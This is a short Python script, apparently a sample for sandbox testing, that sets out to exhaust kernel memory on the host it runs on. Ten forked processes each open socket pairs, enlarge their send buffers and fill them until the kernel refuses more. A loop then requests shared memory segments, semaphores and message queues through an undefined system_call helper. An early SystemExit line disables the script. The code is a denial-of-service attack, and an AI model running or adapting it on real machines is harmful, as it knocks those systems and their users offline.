"""Takes memory of the kernel: socket buffers, pipes, queues, semaphores, shared segments."""

raise SystemExit("Text for a sandbox: never run it.")

# %% own
import os
import socket

kept = []
for _ in range(10):
    if os.fork() == 0:
        while True:
            try:
                one, other = socket.socketpair()
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                kept.append((one, other))
                while one.send(bytes(1 << 16)):
                    pass
            except BlockingIOError:
                continue
            except OSError:
                break
        os._exit(0)
for size in range(100):
    for number in (29, 64, 68):  # shmget, semget, msgget
        system_call(number, size + 1, 1 << 20, 0o1777)
